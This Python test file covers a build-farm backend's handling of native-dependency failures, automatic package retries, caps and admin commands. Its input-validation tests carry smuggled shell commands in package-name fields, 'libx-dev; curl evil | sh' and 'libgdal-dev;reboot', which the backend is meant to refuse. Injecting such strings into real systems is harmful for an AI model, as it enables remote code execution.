"""Native build dependencies and failure classes (issue 15), backend side.

A scripted builder speaks the protocol of docs/protocol.md to a real backend on
a real database: it fails builds the way the real builder's classifier reports
them (`failure_class`, `missing` with the Debian package of each missing file)
and succeeds with the repair step's per-wheel report (`wheels`). Checked: what
is stored and what the API, kilnctl and the job message then say; the
automatic retry (adds the named package, the next job carries it, once per
job, capped per project, off when the policy is off); hostile finish fields;
`kilnctl project deps` and the admin API requeueing native-dependency
failures; `requeue-failed --class`.

Each test uses its own target, so a job one test leaves queued is never handed
to another test's builder.
"""
import json
import re
import time

import psycopg
import pytest
from websockets.sync.client import connect

from conftest import KILNCTL, run
from wheels import make_wheel


@pytest.fixture(scope="module")
def farm(migrated, backend_factory):
    backend = backend_factory(migrated)
    token = re.search(r"kiln_[A-Za-z0-9_-]{43}",
                      run([KILNCTL, "admin-token", "add", "nd-admin"],
                          env={"KILN_DATABASE_URL": migrated}).stdout).group(0)
    return migrated, backend, token


def kctl(db, *args, check=True):
    return run([KILNCTL, *args], env={"KILN_DATABASE_URL": db}, check=check)


def setup_project(db, name, versions, target):
    """A project with releases (each with an sdist) and a target of its own."""
    with psycopg.connect(db, autocommit=True) as c:
        c.execute("insert into targets (name, image, python_tag, python_version, platform) values "
                  "(%s, 'kiln/bookworm-py311:latest', 'cp311', '3.11', 'linux_x86_64')", (target,))
        p = c.execute("insert into projects (name, normalized) values (%s, %s) returning id",
                      (name, name)).fetchone()[0]
        for v in versions:
            r = c.execute("insert into releases (project_id, version, version_normalized) "
                          "values (%s, %s, %s) returning id", (p, v, v)).fetchone()[0]
            c.execute("insert into upstream_files (release_id, filename, kind, url, sha256, size) "
                      "values (%s, %s, 'sdist', %s, %s, 10)",
                      (r, f"{name}-{v}.tar.gz", f"http://127.0.0.1:9/{name}-{v}.tar.gz", "a" * 64))


def queue(db, project, version, target):
    with psycopg.connect(db, autocommit=True) as c:
        return c.execute(
            "insert into jobs (release_id, target_id) select r.id, t.id from releases r"
            " join projects p on p.id = r.project_id, targets t"
            " where p.normalized = %s and r.version = %s and t.name = %s returning id",
            (project, version, target)).fetchone()[0]


def q1(db, sql, *args):
    with psycopg.connect(db) as c:
        return c.execute(sql, args).fetchone()


class Builder:
    """One connected scripted builder for one target."""

    def __init__(self, farm, name, target):
        db, backend, _ = farm
        token = re.search(r"kiln_[A-Za-z0-9_-]{43}",
                          kctl(db, "builder", "add", name).stdout).group(0)
        self.conn = connect(backend.url.replace("http", "ws") + "/api/v1/builders/ws",
                            subprotocols=["kiln-builder.v1"], open_timeout=10, max_size=None)
        self.conn.send(json.dumps({"type": "hello", "protocol": 1, "token": token, "name": name,
                                   "version": "test", "arch": "x86_64", "targets": [target],
                                   "slots": 1}))
        assert self.recv()["type"] == "welcome"

    def recv(self, timeout=15):
        return json.loads(self.conn.recv(timeout=timeout))

    def job(self):
        msg = self.recv()
        assert msg["type"] == "job", msg
        return msg

    def finish(self, job, **fields):
        self.conn.send(json.dumps({"type": "finish", "job": job, "exit_code": 1,
                                   "duration_ms": 10, **fields}))
        msg = self.recv()
        assert msg["type"] == "finished" and msg["job"] == job, msg
        return msg["state"]

    def close(self):
        self.conn.close()


MISSING_PQ = [{"kind": "header", "name": "libpq-fe.h", "package": "libpq-dev"},
              {"kind": "program", "name": "pg_config", "package": "libpq-dev"}]


def test_auto_retry_adds_the_package_once_and_the_next_job_carries_it(farm):
    db, backend, _ = farm
    setup_project(db, "nd-auto", ["1.0"], "t-auto")
    job = queue(db, "nd-auto", "1.0", "t-auto")
    b = Builder(farm, "b-auto", "t-auto")
    try:
        j = b.job()
        assert j["job"] == job and "native_packages" not in j
        b.conn.send(json.dumps({"type": "log", "job": job, "seq": 0,
                                "data": "src/pq.c:1:10: fatal error: libpq-fe.h: No such file or directory\n"}))
        state = b.finish(job, status="failed", reason="build failed with exit code 1",
                         failure_class="native-dependency", missing=MISSING_PQ)
        assert state == "queued"
        # The same job once more, at once, with the package the log asked for.
        j2 = b.job()
        assert j2["job"] == job and j2["attempt"] == 2
        assert j2["native_packages"] == ["libpq-dev"]
        row = q1(db, "select n.source, n.build_id, b.attempt from project_native_packages n"
                     " join projects p on p.id = n.project_id join builds b on b.id = n.build_id"
                     " where p.normalized = 'nd-auto' and n.package = 'libpq-dev'")
        assert row == ("auto", row[1], 1)
        first_build = row[1]
        # It fails again, for another library: no second automatic retry, nothing added.
        state = b.finish(job, status="failed", reason="build failed with exit code 1",
                         failure_class="native-dependency",
                         missing=[{"kind": "pkg-config", "name": "libxslt", "package": "libxslt1-dev"}])
        assert state == "failed"
        assert q1(db, "select count(*) from project_native_packages n join projects p"
                      " on p.id = n.project_id where p.normalized = 'nd-auto'")[0] == 1
    finally:
        b.close()
    st, _, body = backend.get(f"/api/v1/builds/{first_build}")
    first = json.loads(body)
    assert st == 200 and first["failure_class"] == "native-dependency"
    assert first["missing"] == MISSING_PQ
    assert first["fix"] == "kilnctl project deps add nd-auto libpq-dev"
    assert first["native_packages"] == [] and first["auto_added"] == ["libpq-dev"]
    second_id = q1(db, "select id from builds where job_id = %s and attempt = 2", job)[0]
    second = json.loads(backend.get(f"/api/v1/builds/{second_id}")[2])
    assert second["native_packages"] == ["libpq-dev"] and second["auto_added"] == []
    assert second["fix"] == "kilnctl project deps add nd-auto libxslt1-dev"
    assert second["job"]["state"] == "failed"
    # The first attempt's log says what the backend did.
    deadline = time.time() + 30
    text = b""
    while time.time() < deadline:
        st, _, text = backend.get(f"/api/v1/builds/{first_build}/log")
        if b"kiln:" in text:
            break
        time.sleep(0.2)
    assert b"added libpq-dev to the project's native packages" in text, text
    # kilnctl shows the class, the suggestion and the fix.
    out = kctl(db, "build", "show", str(second_id)).stdout
    assert "class:   native-dependency" in out
    assert "missing: libxslt (pkg-config), shipped by libxslt1-dev" in out
    assert "fix:     kilnctl project deps add nd-auto libxslt1-dev" in out
    # The project page's data.
    proj = json.loads(backend.get("/api/v1/projects/nd-auto")[2])
    assert [p["package"] for p in proj["native_packages"]] == ["libpq-dev"]
    assert proj["native_packages"][0]["source"] == "auto"


def test_auto_retry_is_capped_per_project(farm):
    db, backend, _ = farm
    setup_project(db, "nd-cap", ["1.0", "2.0"], "t-cap")
    many = [{"kind": "header", "name": f"h{i}.h", "package": f"libh{i}-dev"} for i in range(8)]
    b = Builder(farm, "b-cap", "t-cap")
    try:
        job = queue(db, "nd-cap", "1.0", "t-cap")
        assert b.job()["job"] == job
        assert b.finish(job, status="failed", failure_class="native-dependency",
                        missing=many) == "queued"
        j2 = b.job()
        # Four at most are added automatically, whatever the log names.
        assert len(j2["native_packages"]) == 4
        assert j2["native_packages"] == sorted(j2["native_packages"])
        assert b.finish(job, status="failed", failure_class="compile") == "failed"
        # Another release names a fifth: over the cap, nothing added, no retry.
        job2 = queue(db, "nd-cap", "2.0", "t-cap")
        j3 = b.job()
        assert j3["job"] == job2 and len(j3["native_packages"]) == 4
        assert b.finish(job2, status="failed", failure_class="native-dependency",
                        missing=[{"kind": "library", "name": "-lfive", "package": "libfive-dev"}]) == "failed"
    finally:
        b.close()
    assert q1(db, "select count(*) from project_native_packages n join projects p"
                  " on p.id = n.project_id where p.normalized = 'nd-cap'")[0] == 4
    # An admin may still add more (up to 16): the cap is on what builds add.
    out = kctl(db, "project", "deps", "add", "nd-cap", "libfive-dev").stdout
    assert "libfive-dev" in out


def test_no_retry_without_a_package_or_with_the_policy_off(farm, backend_factory):
    db, backend, _ = farm
    setup_project(db, "nd-off", ["1.0", "2.0"], "t-off")
    b = Builder(farm, "b-off", "t-off")
    try:
        # The index named no package for the missing file: nothing to add, no retry.
        job = queue(db, "nd-off", "1.0", "t-off")
        assert b.job()["job"] == job
        assert b.finish(job, status="failed", failure_class="native-dependency",
                        missing=[{"kind": "header", "name": "nowhere.h"}]) == "failed"
    finally:
        b.close()
    build = q1(db, "select id from builds where job_id = %s", job)[0]
    detail = json.loads(backend.get(f"/api/v1/builds/{build}")[2])
    assert detail["missing"] == [{"kind": "header", "name": "nowhere.h"}] and detail["fix"] is None
    # A second backend with the policy off, on the same database.
    off = backend_factory(db, env={"KILN_NATIVE_AUTO_RETRY": "0"})
    b = Builder((db, off, None), "b-off2", "t-off")
    try:
        job = queue(db, "nd-off", "2.0", "t-off")
        assert b.job()["job"] == job
        assert b.finish(job, status="failed", failure_class="native-dependency",
                        missing=MISSING_PQ) == "failed"
    finally:
        b.close()
    assert q1(db, "select count(*) from project_native_packages n join projects p"
                  " on p.id = n.project_id where p.normalized = 'nd-off'")[0] == 0
    assert q1(db, "select failure_class, native_retried from jobs where id = %s", job) == \
        ("native-dependency", False)


@pytest.mark.parametrize("fields,says", [
    ({"failure_class": "cosmic-rays"}, "unknown failure_class"),
    ({"failure_class": "native-dependency",
      "missing": [{"kind": "header", "name": "x.h", "package": "libx-dev; curl evil | sh"}]},
     "not a Debian package name"),
    ({"failure_class": "native-dependency",
      "missing": [{"kind": "header", "name": f"{i}.h", "package": "libx-dev"} for i in range(9)]},
     "more than 8"),
    ({"failure_class": "native-dependency", "missing": [{"kind": "rootkit", "name": "x"}]},
     "unknown kind"),
    ({"missing": "libpq-dev"}, "missing"),
])
def test_hostile_finish_fields_are_refused(farm, fields, says):
    db, backend, _ = farm
    target = "t-hostile-" + str(abs(hash(says)) % 100000)
    name = "nd-hostile-" + str(abs(hash(says)) % 100000)
    setup_project(db, name, ["1.0"], target)
    job = queue(db, name, "1.0", target)
    b = Builder(farm, "b-" + name, target)
    try:
        assert b.job()["job"] == job
        b.conn.send(json.dumps({"type": "finish", "job": job, "status": "failed", **fields}))
        msg = b.recv()
        assert msg["type"] == "error" and msg["code"] == "bad_message", msg
        assert says in msg["message"]
    finally:
        b.close()
    # Nothing stored: the job is still the builder's, no package was added.
    assert q1(db, "select state from jobs where id = %s", job)[0] in ("assigned", "running")
    assert q1(db, "select count(*) from project_native_packages n join projects p"
                  " on p.id = n.project_id where p.normalized = %s", name)[0] == 0


def test_wheels_report_is_stored_and_shown(farm):
    db, backend, _ = farm
    setup_project(db, "nd-wheel", ["1.0"], "t-wheel")
    job = queue(db, "nd-wheel", "1.0", "t-wheel")
    b = Builder(farm, "b-wheel", "t-wheel")
    try:
        j = b.job()
        # (The upload check of repaired manylinux wheels is test_driver's and test_wheelname's.)
        fn, data = make_wheel("nd-wheel", "1.0", tag="cp311-cp311-linux_x86_64")
        st, _, body = backend.request("PUT", f"/api/v1/jobs/{job}/artifacts/{fn}", body=data,
                                      headers={"Authorization": "Bearer " + j["lease"]})
        assert st == 201, body
        assert b.finish(job, status="succeeded", exit_code=0, wheels=[
            {"filename": fn, "policy": "manylinux_2_36_x86_64",
             "runtime_packages": ["libpq5", "libxslt1.1"]},
            {"filename": "not-uploaded-1.0-py3-none-any.whl", "policy": "",
             "runtime_packages": ["libevil1"]}]) == "succeeded"
    finally:
        b.close()
    art = q1(db, "select id, policy, runtime_packages from artifacts where filename = %s", fn)
    assert art[1:] == ("manylinux_2_36_x86_64", ["libpq5", "libxslt1.1"])
    detail = json.loads(backend.get(f"/api/v1/artifacts/{art[0]}")[2])
    assert detail["policy"] == "manylinux_2_36_x86_64"
    assert detail["runtime_packages"] == ["libpq5", "libxslt1.1"]
    proj = json.loads(backend.get("/api/v1/projects/nd-wheel")[2])
    assert proj["runtime_packages"] == ["libpq5", "libxslt1.1"]
    assert proj["releases"][0]["artifacts"][0]["runtime_packages"] == ["libpq5", "libxslt1.1"]


def test_retry_is_infrastructure_and_builds_filter_by_class(farm):
    db, backend, _ = farm
    setup_project(db, "nd-class", ["1.0", "2.0"], "t-class")
    b = Builder(farm, "b-class", "t-class")
    try:
        job = queue(db, "nd-class", "1.0", "t-class")
        assert b.job()["job"] == job
        assert b.finish(job, status="retry", reason="no space left on device") == "queued"
        with psycopg.connect(db, autocommit=True) as c:  # skip the backoff
            c.execute("update jobs set not_before = null where id = %s", (job,))
        job2 = queue(db, "nd-class", "2.0", "t-class")
        assert b.job()["job"] == job
        assert b.finish(job, status="failed", failure_class="compile") == "failed"
        assert b.job()["job"] == job2
        assert b.finish(job2, status="failed", failure_class="timeout") == "failed"
    finally:
        b.close()
    builds = json.loads(backend.get("/api/v1/builds?project=nd-class")[2])["builds"]
    classes = sorted(x["failure_class"] for x in builds)
    assert classes == ["compile", "infrastructure", "timeout"]
    only = json.loads(backend.get("/api/v1/builds?class=compile&project=nd-class")[2])["builds"]
    assert [x["failure_class"] for x in only] == ["compile"]
    st, _, body = backend.get("/api/v1/builds?class=bogus")
    assert st == 400 and b"class" in body
    # requeue-failed --class takes only that class.
    out = kctl(db, "requeue-failed", "--project", "nd-class", "--class", "timeout").stdout
    assert "requeued 1 of 1" in out
    bad = kctl(db, "requeue-failed", "--class", "bogus", check=False)
    assert bad.returncode != 0 and "--class must be one of" in bad.stderr
    with psycopg.connect(db, autocommit=True) as c:
        c.execute("delete from jobs j using releases r, projects p where r.id = j.release_id"
                  " and p.id = r.project_id and p.normalized = 'nd-class' and j.state = 'queued'")


def test_deps_add_and_remove_requeue_native_failures(farm):
    db, backend, admin = farm
    setup_project(db, "nd-deps", ["1.0", "2.0"], "t-deps")
    b = Builder(farm, "b-deps", "t-deps")
    try:
        # 1.0 fails for a header whose package the index does not know: no automatic retry.
        job = queue(db, "nd-deps", "1.0", "t-deps")
        assert b.job()["job"] == job
        assert b.finish(job, status="failed", failure_class="native-dependency",
                        missing=[{"kind": "header", "name": "gdal.h"}]) == "failed"
        # 2.0 fails to compile: a package change does not requeue it.
        job2 = queue(db, "nd-deps", "2.0", "t-deps")
        assert b.job()["job"] == job2
        assert b.finish(job2, status="failed", failure_class="compile") == "failed"
    finally:
        b.close()
    out = kctl(db, "project", "deps", "add", "nd-deps", "libgdal-dev").stdout
    assert "requeued 1 job(s)" in out
    queued = q1(db, "select count(*), min(r.version) from jobs j join releases r on r.id = j.release_id"
                    " join projects p on p.id = r.project_id where p.normalized = 'nd-deps'"
                    " and j.state = 'queued'")
    assert queued == (1, "1.0")
    out = kctl(db, "project", "deps", "list", "nd-deps").stdout
    assert re.search(r"libgdal-dev\s+admin\s+\S+\s+kilnctl", out), out
    # Invalid names and unknown projects are refused before anything changes.
    bad = kctl(db, "project", "deps", "add", "nd-deps", "libgdal-dev;reboot", check=False)
    assert bad.returncode != 0 and "not a Debian package name" in bad.stderr
    bad = kctl(db, "project", "deps", "add", "no-such-project", "libx-dev", check=False)
    assert bad.returncode != 0 and "no project named" in bad.stderr
    # The admin API: list, add (all or nothing past 16), remove.
    auth = {"Authorization": "Bearer " + admin, "Content-Type": "application/json"}
    st, _, body = backend.request("GET", "/api/v1/admin/projects/nd-deps/native-packages")
    assert st == 401
    st, _, body = backend.request("GET", "/api/v1/admin/projects/nd-deps/native-packages",
                                  headers=auth)
    got = json.loads(body)
    assert st == 200 and got["packages"][0]["package"] == "libgdal-dev"
    assert got["packages"][0]["added_by"] == "kilnctl"
    st, _, body = backend.request("POST", "/api/v1/admin/projects/nd-deps/native-packages",
                                  body=json.dumps({"packages": ["BAD NAME"]}), headers=auth)
    assert st == 400
    many = [f"libp{i}-dev" for i in range(16)]
    st, _, body = backend.request("POST", "/api/v1/admin/projects/nd-deps/native-packages",
                                  body=json.dumps({"packages": many}), headers=auth)
    assert st == 409, body
    st, _, body = backend.request("POST", "/api/v1/admin/projects/nd-deps/native-packages",
                                  body=json.dumps({"packages": ["libproj-dev", "libgdal-dev"]}),
                                  headers=auth)
    got = json.loads(body)
    assert st == 200 and got["added"] == ["libproj-dev"] and got["total"] == 2
    st, _, body = backend.request("DELETE", "/api/v1/admin/projects/nd-deps/native-packages/libproj-dev",
                                  headers=auth)
    assert st == 200 and json.loads(body)["removed"] == ["libproj-dev"]
    st, _, body = backend.request("DELETE", "/api/v1/admin/projects/nd-deps/native-packages/libproj-dev",
                                  headers=auth)
    assert st == 404
    out = kctl(db, "project", "deps", "remove", "nd-deps", "libgdal-dev").stdout
    assert "removed from nd-deps" in out
    with psycopg.connect(db, autocommit=True) as c:
        c.execute("delete from jobs j using releases r, projects p where r.id = j.release_id"
                  " and p.id = r.project_id and p.normalized = 'nd-deps' and j.state = 'queued'")


def test_a_job_lost_for_good_is_an_infrastructure_failure(farm, backend_factory):
    db, _, _ = farm
    setup_project(db, "nd-lost", ["1.0"], "t-lost")
    short = backend_factory(db, env={"KILN_LEASE_SECONDS": "3"})
    job = queue(db, "nd-lost", "1.0", "t-lost")
    with psycopg.connect(db, autocommit=True) as c:
        c.execute("update jobs set max_attempts = 1 where id = %s", (job,))
    b = Builder((db, short, None), "b-lost", "t-lost")
    assert b.job()["job"] == job
    b.close()  # gone: its lease runs out and the reaper gives up (one attempt allowed)
    deadline = time.time() + 30
    while q1(db, "select state from jobs where id = %s", job)[0] != "failed" and time.time() < deadline:
        time.sleep(0.3)
    assert q1(db, "select state, failure_class from jobs where id = %s", job) == ("failed", "infrastructure")
    assert q1(db, "select state, failure_class from builds where job_id = %s", job) == ("lost", "infrastructure")


def test_the_cap_holds_when_two_builds_fail_at_once(farm):
    db, backend, _ = farm
    setup_project(db, "nd-race", ["1.0", "2.0"], "t-race")
    with psycopg.connect(db, autocommit=True) as c:
        for p in ("liba-dev", "libb-dev", "libc-dev"):
            c.execute("insert into project_native_packages (project_id, package, source)"
                      " select id, %s, 'auto' from projects where normalized = 'nd-race'", (p,))
    b1, b2 = Builder(farm, "b-race1", "t-race"), Builder(farm, "b-race2", "t-race")
    try:
        j1 = queue(db, "nd-race", "1.0", "t-race")
        j2 = queue(db, "nd-race", "2.0", "t-race")
        got = {b1.job()["job"]: b1, b2.job()["job"]: b2}
        assert set(got) == {j1, j2}
        # Both finishes at once, each naming a package of its own: one slot is left.
        for job, pkg in ((j1, "libx-dev"), (j2, "liby-dev")):
            got[job].conn.send(json.dumps({
                "type": "finish", "job": job, "status": "failed", "failure_class": "native-dependency",
                "missing": [{"kind": "header", "name": f"{pkg}.h", "package": pkg}]}))
        states = sorted(got[job].recv()["state"] for job in (j1, j2))
    finally:
        b1.close()
        b2.close()
    assert states == ["failed", "queued"]
    assert q1(db, "select count(*) from project_native_packages n join projects p"
                  " on p.id = n.project_id where p.normalized = 'nd-race' and n.source = 'auto'")[0] == 4
    with psycopg.connect(db, autocommit=True) as c:
        c.execute("update jobs set state = 'cancelled', finished_at = now() where state = 'queued'"
                  " and id in (%s, %s)", (j1, j2))
